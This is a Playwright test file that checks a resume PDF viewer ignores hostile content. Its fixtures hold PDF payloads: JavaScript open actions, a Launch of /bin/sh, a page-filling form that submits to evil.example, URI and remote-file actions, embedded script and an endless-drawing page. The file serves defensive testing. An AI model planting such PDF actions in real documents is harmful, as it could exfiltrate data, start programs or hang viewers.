import { expect, test } from '../../support/browser/test.ts'
import { openResume } from '../../support/browser/viewer.ts'
import { isDeep } from '../../support/deep.ts'
import { buildPdf, pdfStream } from '../../support/documents/pdf.ts'

const whole = '[0 0 595 842]'
const script = (call: string) => `<< /S /JavaScript /JS (${call}) >>`
const address = (path: string) => `<< /S /URI /URI (https://evil.example/${path}) >>`
const annotation = (entries: string) => `<< /Type /Annot /F 4 ${entries} >>`

/** PDF files that each ask a viewer to act. */
const files: [string, Buffer][] = [
  [
    'a script when it is opened',
    buildPdf({
      pages: [{ lines: ['Asha Rao'] }],
      catalog: `/OpenAction ${script(`app.alert('x'); app.launchURL('https://evil.example/script')`)}
        /Names << /JavaScript << /Names [(a) ${script('app.alert(1)')}] >> >>`,
    }),
  ],
  [
    'actions of the file and of its page',
    buildPdf({
      pages: [{ lines: ['Asha Rao'], entries: `/AA << /O ${address('page')} /C ${script('app.alert(2)')} >>` }],
      catalog: `/OpenAction ${address('open')} /AA << /WC ${script('app.alert(3)')} /DP ${script('app.alert(4)')} >>`,
    }),
  ],
  [
    'a program to start, and another file to go to',
    buildPdf({
      pages: [
        { lines: ['Asha Rao'], entries: `/AA << /O << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >> >>` },
      ],
      catalog: '/OpenAction << /S /Launch /F (file:///bin/sh) >>',
    }),
  ],
  [
    'a link over the whole page',
    buildPdf({
      objects: [
        annotation(`/Subtype /Link /Rect ${whole} /A ${address('link')}`),
        annotation(`/Subtype /Link /Rect ${whole} /A << /S /Named /N /Print >> /AA << /E ${script('app.alert(5)')} >>`),
      ],
      pages: [{ lines: ['Asha Rao', 'https://evil.example/text'], entries: '/Annots [4 0 R 5 0 R]' }],
    }),
  ],
  [
    'a form that fills the page, sends itself and counts',
    buildPdf({
      objects: [
        annotation(`/Subtype /Widget /FT /Tx /T (name) /V (Asha) /DA (/Helv 12 Tf) /Rect [50 600 300 640]
          /AA << /K ${script('app.alert(6)')} /Fo ${script('app.alert(7)')} >>`),
        annotation(`/Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect ${whole}
          /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> /Flags 4 >>`),
      ],
      pages: [{ lines: ['Asha Rao'], entries: '/Annots [4 0 R 5 0 R]' }],
      catalog: `/AcroForm << /Fields [4 0 R 5 0 R] /NeedAppearances true /CO [4 0 R] >>`,
    }),
  ],
  [
    'an XFA form, a film, an attachment and a picture from elsewhere',
    buildPdf({
      objects: [
        pdfStream(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox("x")</script></event></subform></template></xdp:xdp>',
        ),
        annotation(`/Subtype /Screen /Rect ${whole} /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4)
          /D << /FS /URL /F (https://evil.example/film) >> >> >> >> /AA << /PV << /S /URI /URI (https://evil.example/seen) >> >>`),
        annotation(`/Subtype /FileAttachment /Rect ${whole} /FS << /Type /Filespec /F (x.html) /EF << /F 7 0 R >> >>`),
        pdfStream('<script>alert(8)</script>', '/Type /EmbeddedFile'),
        '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (https://evil.example/picture) >> /Length 0 >>\nstream\n\nendstream',
      ],
      pages: [
        {
          lines: ['Asha Rao'],
          entries: '/Annots [5 0 R 6 0 R]',
          content: 'q 100 0 0 100 0 0 cm /I Do Q',
          resources: '/XObject << /I 8 0 R >>',
        },
      ],
      catalog: '/AcroForm << /Fields [] /XFA 4 0 R >> /Names << /EmbeddedFiles << /Names [(x.html) 6 0 R] >> >>',
    }),
  ],
]

/** Scripts, links and forms: the viewer ignores all actions of a file in the same way. */
const usual = files.filter((_, index) => isDeep || [0, 3, 4].includes(index))

test('a hostile PDF starts nothing, opens nothing and loads nothing', {
  tag: isDeep ? '@deep' : [],
}, async ({ page, context }) => {
  const dialogs: string[] = []
  const requested: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  context.on('request', (request) => requested.push(request.url()))
  for (const [what, file] of usual) {
    await test.step(what, async () => {
      await openResume(page, file)
      const { origin, href, searchParams } = new URL(page.url())
      const sheet = page.locator('[data-page="1"]')
      await expect(sheet.locator('canvas')).toBeVisible()
      await expect(sheet.getByText('Asha Rao')).toHaveCount(1)

      const box = await sheet.boundingBox()
      for (const [x, y] of [
        [0.5, 0.2],
        [0.2, 0.08],
        [0.3, 0.25],
      ] as const) {
        const at = [(box?.x ?? 0) + (box?.width ?? 0) * x, (box?.y ?? 0) + (box?.height ?? 0) * y] as const
        await page.mouse.dblclick(...at)
        await page.mouse.click(...at, { button: 'middle' })
      }
      await page.keyboard.type('Tab and Enter')
      await page.keyboard.press('Enter')

      const active =
        'a, area, button, input, textarea, select, form, iframe, object, embed, script, video, [id], [onclick]'
      await expect(sheet.locator(active)).toHaveCount(0)
      expect(dialogs).toEqual([])
      expect(context.pages()).toHaveLength(1)
      expect(page.url()).toBe(href)
      expect(requested.filter((url) => new URL(url).origin !== origin)).toEqual([])

      const direct = await page.request.get(`/admin/resumes/${searchParams.get('resume')}`)
      expect(direct.headers()['content-disposition']).toMatch(/^attachment; /)
      expect(direct.headers()['content-security-policy']).toMatch(/sandbox/)
    })
  }
})

test('the workers of the viewer can load nothing', async ({ page, complaints }) => {
  await openResume(page, buildPdf({}))
  await expect(page.locator('[data-page="1"] canvas')).toBeVisible()
  const workers = page.workers()
  expect(workers).toHaveLength(2)
  for (const worker of workers) {
    const reached = await worker.evaluate(async () => {
      const tries = [fetch('/robots.txt'), import(new URL('/assets/none.js', location.origin).href)]
      const nested = () => new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))
      const answers = await Promise.allSettled([...tries, (async () => nested())()])
      return answers.map(({ status }) => status)
    })
    expect(reached).toEqual(['rejected', 'rejected', 'rejected'])
  }
  complaints.length = 0
})

test('a PDF that draws endlessly can be closed, and its next page can be read', async ({ page }) => {
  // Each form draws the next one twice.
  const forms = Array.from({ length: 40 }, (_, index) =>
    pdfStream(
      index === 39 ? '0 0 1 1 re f' : '/X Do /X Do',
      `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X ${index + 5} 0 R >> >>`,
    ),
  )
  const pages = [{ content: '/X Do', resources: '/XObject << /X 4 0 R >>' }, { lines: ['The second page.'] }]
  const dialog = await openResume(page, buildPdf({ objects: forms, pages }))
  await dialog.getByRole('region', { name: /\.pdf$/ }).evaluate((area) => area.scrollTo(0, area.scrollHeight))
  await expect(page.getByText('The second page.')).toHaveCount(1, { timeout: 60_000 })
  await dialog.getByRole('link', { name: 'Close' }).last().click()
  await expect(dialog).toBeHidden()
  await expect.poll(() => page.workers().length).toBe(0)
})
